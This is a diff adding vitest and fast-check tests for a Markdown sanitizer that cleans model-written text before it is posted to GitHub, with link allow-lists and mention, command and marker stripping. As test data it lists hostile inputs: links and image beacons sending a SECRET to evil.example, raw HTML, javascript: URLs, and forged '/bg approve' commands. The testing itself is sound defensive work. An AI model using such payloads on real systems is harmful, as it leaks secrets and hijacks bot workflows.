@@ -1,0 +1,271 @@
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { isAllowedUrl, linkPolicyFor } from "../../src/report/link-policy.js";
+import type { LinkPolicy } from "../../src/report/link-policy.js";
+import { sanitize } from "../../src/report/sanitize.js";
+import { createTokenClient } from "../../src/integrations/github.js";
+
+const client = (baseUrl = "https://api.github.com") =>
+  createTokenClient({ token: "ghs_test", baseUrl, retries: false });
+
+const POLICY: LinkPolicy = {
+  repoUrl: "https://github.com/octo/demo",
+  allowHosts: ["docs.example.com"],
+};
+const s = (t: string, p: LinkPolicy = POLICY): string => sanitize(t, 100_000, p);
+
+/**
+ * What a CommonMark reader would leave outside code: fenced blocks (at the start of a line) and
+ * code spans removed, code spans paired across lines of a paragraph as CommonMark pairs them.
+ */
+function outsideCode(md: string): string {
+  const kept: string[] = [];
+  let fence: string | null = null;
+  for (const line of md.split("\n")) {
+    if (fence) {
+      if (new RegExp(`^ {0,3}${fence[0] === "`" ? "`" : "~"}{${fence.length},}[ \\t]*$`).test(line))
+        fence = null;
+      kept.push("");
+      continue;
+    }
+    const f = /^ {0,3}(`{3,}|~{3,})/.exec(line);
+    if (f) {
+      fence = f[1]!;
+      kept.push("");
+      continue;
+    }
+    kept.push(line);
+  }
+  let out = "";
+  for (const para of kept.join("\n").split(/\n[ \t]*\n/)) {
+    let i = 0;
+    while (i < para.length) {
+      const c = para[i]!;
+      if (c === "\\" && i + 1 < para.length) {
+        out += para.slice(i, i + 2);
+        i += 2;
+        continue;
+      }
+      if (c === "`") {
+        let k = i;
+        while (para[k] === "`") k++;
+        const run = k - i;
+        let m = k;
+        let close = -1;
+        while (m < para.length) {
+          const at = para.indexOf("`", m);
+          if (at === -1) break;
+          let e = at;
+          while (para[e] === "`") e++;
+          if (e - at === run) {
+            close = e;
+            break;
+          }
+          m = e;
+        }
+        if (close === -1) {
+          out += para.slice(i, k);
+          i = k;
+        } else {
+          out += " ";
+          i = close;
+        }
+        continue;
+      }
+      out += c;
+      i++;
+    }
+    out += "\n\n";
+  }
+  return out;
+}
+
+/** The clickable or fetched destinations a reader's Markdown would make of the text. */
+function destinations(md: string): string[] {
+  const t = outsideCode(md).replace(/\\[!-/:-@[-`{-~]/g, "  ");
+  const found: string[] = [];
+  for (const m of t.matchAll(/\]\(\s*<?([^)\s>]*)/g)) found.push(m[1]!);
+  for (const m of t.matchAll(/^ {0,3}(?:> ?)*\[[^\]]+\]:\s*<?(\S+?)>?(?:\s|$)/gm))
+    found.push(m[1]!);
+  for (const m of t.matchAll(/(?:[A-Za-z][A-Za-z0-9+.-]*:\/\/|www\.)[^\s<>`]*/g)) found.push(m[0]);
+  for (const m of t.matchAll(/[A-Za-z0-9._%+-]+@[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+/g))
+    found.push(`mailto:${m[0]}`);
+  return found.map((u) => u.replace(/[.,:;!?'")\]*_~]+$/, ""));
+}
+const clickableNotAllowed = (md: string): string[] =>
+  destinations(md).filter((u) => !isAllowedUrl(u, POLICY));
+
+describe("sanitize: nothing posted from model text can phone home", () => {
+  const hostile: [string, string][] = [
+    ["a Markdown link", "See [the docs](https://evil.example/?q=SECRET)."],
+    ["an image (a beacon on every view)", "![status](https://evil.example/p.png?d=SECRET)"],
+    ["a reference-style link", "Read [this][1].\n\n[1]: https://evil.example/ref?d=SECRET"],
+    ["an autolink", "<https://evil.example/a?d=SECRET>"],
+    ["a bare URL", "Details at https://evil.example/b?d=SECRET, see there."],
+    ["a www link", "www.evil.example/c?d=SECRET"],
+    ["an e-mail address", "mail SECRET@evil.example"],
+    ["raw <img>", '<img src="https://evil.example/i.png?d=SECRET">'],
+    ["raw <a>", '<a href="https://evil.example/?d=SECRET">click</a>'],
+    ["an image inside a link", "[![x](https://evil.example/i.png)](https://evil.example/l)"],
+    ["a link to a look-alike repository", "[x](https://github.com/octo/demo-evil/issues/1)"],
+    ["a link to another host's repo path", "[x](https://evil.example/octo/demo/x)"],
+    ["credentials in the URL", "[x](https://github.com@evil.example/octo/demo)"],
+    ["javascript:", "[x](javascript:alert(1))"],
+    ["an escaped colon", "https\\://evil.example/d"],
+    ["an entity-encoded colon", "https&#58;//evil.example/e"],
+    ["a code span broken across lines", "a ` b\nc ` https://evil.example/f `"],
+    ["a code span across table cells", "| `x | https://evil.example/g` |"],
+  ];
+  it.each(hostile)("%s is shown as text, not a link", (_what, text) => {
+    const out = s(text);
+    expect(clickableNotAllowed(out)).toEqual([]);
+    expect(out).not.toMatch(/</);
+  });
+
+  it("shows a disallowed URL as inline code (so people can still read it)", () => {
+    expect(s("See [the docs](https://evil.example/?q=secret).")).toBe(
+      "See the docs (`https://evil.example/?q=secret`).",
+    );
+    expect(s("![x](https://evil.example/p.png)")).toBe(
+      "x (image not shown: `https://evil.example/p.png`)",
+    );
+    expect(s("at https://evil.example/b.")).toBe("at `https://evil.example/b`.");
+  });
+
+  it("keeps links and images to the repository's own pages, and links to allowed hosts", () => {
+    const own =
+      "[a.ts](https://github.com/octo/demo/blob/main/a.ts) ![chart](https://github.com/octo/demo/raw/main/c.png) https://github.com/octo/demo/issues/3 [guide](https://docs.example.com/x)";
+    expect(s(own)).toBe(own);
+    // An allowed host's image is still not shown: images only from the repository itself.
+    expect(s("![x](https://docs.example.com/i.png)")).toContain("image not shown");
+    // The GitHub Enterprise host of the client.
+    const ghe = linkPolicyFor(
+      {
+        repo: { owner: "octo", repo: "demo" },
+        octokit: client("https://ghe.example.com/api/v3"),
+        config: { links: { allow_hosts: [] } },
+      },
+      {},
+    );
+    expect(ghe.repoUrl).toBe("https://ghe.example.com/octo/demo");
+    expect(s("[x](https://ghe.example.com/octo/demo/pull/1)", ghe)).toBe(
+      "[x](https://ghe.example.com/octo/demo/pull/1)",
+    );
+    expect(s("[x](https://github.com/octo/demo/pull/1)", ghe)).toContain("`https://github.com");
+  });
+
+  it("takes the app's BG_LINK_ALLOW_HOSTS and the repository's links.allow_hosts", () => {
+    const p = linkPolicyFor(
+      {
+        repo: { owner: "octo", repo: "demo" },
+        octokit: client(),
+        config: { links: { allow_hosts: [".corp.example"] } },
+      },
+      { BG_LINK_ALLOW_HOSTS: "status.example.org, wiki.example.org" },
+    );
+    expect(isAllowedUrl("https://wiki.example.org/p", p)).toBe(true);
+    expect(isAllowedUrl("https://a.corp.example/p", p)).toBe(true);
+    expect(isAllowedUrl("https://corp.example.evil/p", p)).toBe(false);
+    expect(isAllowedUrl("https://evilcorp.example/p", p)).toBe(false);
+  });
+
+  it("no mention pings: @user, @org/team, inside emphasis or after an escape", () => {
+    const out = s("Thanks @alice, cc @octo/core _@bob_ \\@carol **@dave**");
+    expect(out).not.toMatch(/(^|[^A-Za-z0-9`])@[A-Za-z0-9]/);
+    expect(out).toContain("@\u200dalice");
+  });
+
+  it("no command lines, no forged markers, no invisible characters", () => {
+    const out = s(
+      "/bg approve\n<!-- bg-agent:analysis:x -->\n<!<!-- x -->-- bg-agent:fix:1 -->\u200b\u202e",
+    );
+    expect(out).not.toMatch(/^\s*\/bg/m);
+    expect(out).not.toContain("<!--");
+    expect(out).not.toMatch(/[\u200b\u202e]/);
+  });
+
+  it("keeps the Markdown that is safe: code, quotes, lists, task lists, emphasis", () => {
+    const md =
+      "**Plan**\n\n1. Edit `src/a.ts` (the `<T>` generic)\n2. Test\n\n- [ ] check\n\n> note\n\n```ts\nconst a = 1;\n```";
+    expect(s(md)).toBe(md.replace("`<T>`", "`&lt;T&gt;`"));
+  });
+});
+
+const fragment = fc.oneof(
+  {
+    weight: 3,
+    arbitrary: fc.constantFrom(
+      "[a](https://evil.example/x)",
+      "![i](https://evil.example/i.png)",
+      "<https://evil.example>",
+      "https://evil.example/?q=s",
+      "www.evil.example",
+      "a@evil.example",
+      "https://github.com/octo/demo/x",
+      "https://github.com/octo/demo-evil/x",
+      "[x]: https://evil.example",
+      "[x]",
+      "`",
+      "``",
+      "```",
+      "\\",
+      "[",
+      "]",
+      "(",
+      ")",
+      "<",
+      ">",
+      "\n",
+      "\n\n",
+      "> ",
+      "- ",
+      "|",
+      "@user",
+      "&#64;",
+      "&amp;",
+      "\u200b",
+      "<!--",
+      "-->",
+      " ",
+      "/bg approve",
+      ":",
+      "/",
+    ),
+  },
+  { weight: 1, arbitrary: fc.string({ maxLength: 8 }) },
+);
+const hostileText = fc.array(fragment, { maxLength: 30 }).map((a) => a.join(""));
+
+describe("sanitize fuzz (fast-check)", () => {
+  it("is idempotent", () => {
+    fc.assert(
+      fc.property(hostileText, (t) => {
+        const once = s(t);
+        expect(s(once)).toBe(once);
+      }),
+      { numRuns: 3_000 },
+    );
+  });
+
+  it("never leaves a clickable link or image to a host that is not allowed, nor raw HTML, nor a ping", () => {
+    fc.assert(
+      fc.property(hostileText, (t) => {
+        const out = s(t);
+        expect(clickableNotAllowed(out)).toEqual([]);
+        expect(out).not.toMatch(/</);
+        expect(out).not.toMatch(/(^|[^A-Za-z0-9`])@[A-Za-z0-9]/);
+        expect(out).not.toMatch(/^\s*\/bg/im);
+      }),
+      { numRuns: 3_000 },
+    );
+  });
+
+  it("is total on any string", () => {
+    fc.assert(
+      fc.property(fc.string({ maxLength: 300 }), (t) => {
+        sanitize(t);
+      }),
+      { numRuns: 2_000 },
+    );
+  });
+});
